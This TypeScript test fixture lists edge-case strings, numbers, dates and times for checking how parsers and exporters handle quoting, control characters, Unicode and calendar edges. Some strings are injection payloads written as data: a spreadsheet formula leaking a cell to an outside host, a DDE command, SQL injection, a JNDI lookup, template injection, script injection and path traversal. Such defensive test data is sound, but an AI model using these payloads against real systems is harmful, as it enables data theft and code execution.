/**
 * Texts that break parsers, one way each: CSV, JSON, spreadsheets, terminals, regular expressions, lengths. None is
 * longer than 120 characters; `longText` makes the long ones.
 */
export const torture: readonly string[] = [
  'He said "no" twice',
  '"fully quoted"',
  '""',
  '"',
  'ends with a quote"',
  '"starts with a quote',
  'a "" pair inside',
  'comma, and another, comma',
  '";"',
  'semicolon; pipe| caret^ backquote` tab\tend',
  'first line\nsecond line',
  'first line\r\nsecond line',
  'lone\rcarriage return',
  '\nstarts with a newline',
  'ends with a newline\n',
  'a "quoted\nnewline", then comma',
  '  two leading and two trailing spaces  ',
  '\ttab at both ends\t',
  'no\u00a0break space and zero\u200bwidth',
  'NUL\u0000inside',
  '\ufeffbyte order mark first',
  'bell\u0007 escape\u001b[31mred\u001b[0m delete\u007f',
  'vertical\u000btab form\u000cfeed next\u0085line',
  'line\u2028separator and paragraph\u2029separator',
  'astral 😀 🏴‍☠️ 👩‍👩‍👧‍👦 𝒳 𠜎',
  'combining: e\u0301 ñ n\u0303 Z̷̢̰a̴̛l̵g̶o̸',
  'right to left: שלום עולם مرحبا بالعالم',
  'override \u202egnp.exe\u202c and isolates \u2066abc\u2069',
  'ﬁ ligature, ＦＵＬＬ width, Ⅷ, ½, ß, İı',
  '#N/A',
  'null',
  'NULL',
  'undefined',
  'NaN',
  'true',
  '=HYPERLINK("http://example.com?leak="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,1)',
  '0012',
  '1e5',
  '1E400',
  '-0',
  '0x1F',
  '9007199254740993',
  '2026-02-30',
  '2026-11-20T12:00:00.000Z',
  '\\',
  'back\\slash \\n \\" \\u0041',
  "O'Brien; DROP TABLE accounts;--",
  `%00 %0a %s %n \${jndi:ldap://example.com} {{7*7}}`,
  '<script>alert("x")</script><!-- --> ]]> &amp; &#0;',
  '../../etc/passwd',
  'C:\\Windows\\System32\\con',
  '0015e00000AbCdEAAX',
  'sf__Id',
  'Id,Name\n"001","x"',
  '---BEGIN AGE ENCRYPTED FILE---',
  '\u{10ffff}\ufffd\ufffe',
  'a'.repeat(120),
];

/** A text of exactly `length` UTF-16 units, lines and quotes in it, that no two lengths share a start of. */
export function longText(length: number): string {
  const line = (n: number) => `${length} characters, line ${n}: "quotes", commas, umlauts äöü and more.\n`;
  let text = '';
  for (let n = 1; text.length < length; n++) text += line(n);
  return text.slice(0, length);
}

/** Numbers that lose digits, change their notation or sign, or look empty. At most 18 significant digits. */
export const tortureNumbers: readonly number[] = [
  0,
  -0.01,
  0.001,
  0.0001,
  1e-7,
  0.1,
  0.3,
  1,
  -1,
  99.99,
  100,
  9999999,
  1e7,
  1e7 + 0.5,
  -1e7,
  123456789.12,
  1e15,
  999999999999999,
  123456789012345680,
  -123456789012345680,
  1 / 3,
  1e17,
];

/** Dates at the edges of what the platform stores, and days that calendars get wrong. */
export const tortureDates: readonly string[] = [
  '1700-01-01',
  '4000-12-31',
  '1752-09-10',
  '1899-12-31',
  '1900-02-28',
  '1969-12-31',
  '1970-01-01',
  '2000-02-29',
  '2024-02-29',
  '2038-01-19',
  '2100-03-01',
];

/** Moments at the edges, daylight saving and leap years included. */
export const tortureDatetimes: readonly string[] = [
  '1700-01-01T00:00:00.000Z',
  '4000-12-31T23:59:59.000Z',
  '1969-12-31T23:59:59.000Z',
  '1970-01-01T00:00:00.000Z',
  '2024-02-29T23:59:59.000Z',
  '2026-03-29T01:30:00.000Z',
  '2026-10-25T01:30:00.000Z',
  '2038-01-19T03:14:08.000Z',
];

/** Times of day, to the millisecond. */
export const tortureTimes: readonly string[] = ['00:00:00.000Z', '23:59:59.999Z', '12:00:00.000Z', '13:45:00.001Z'];
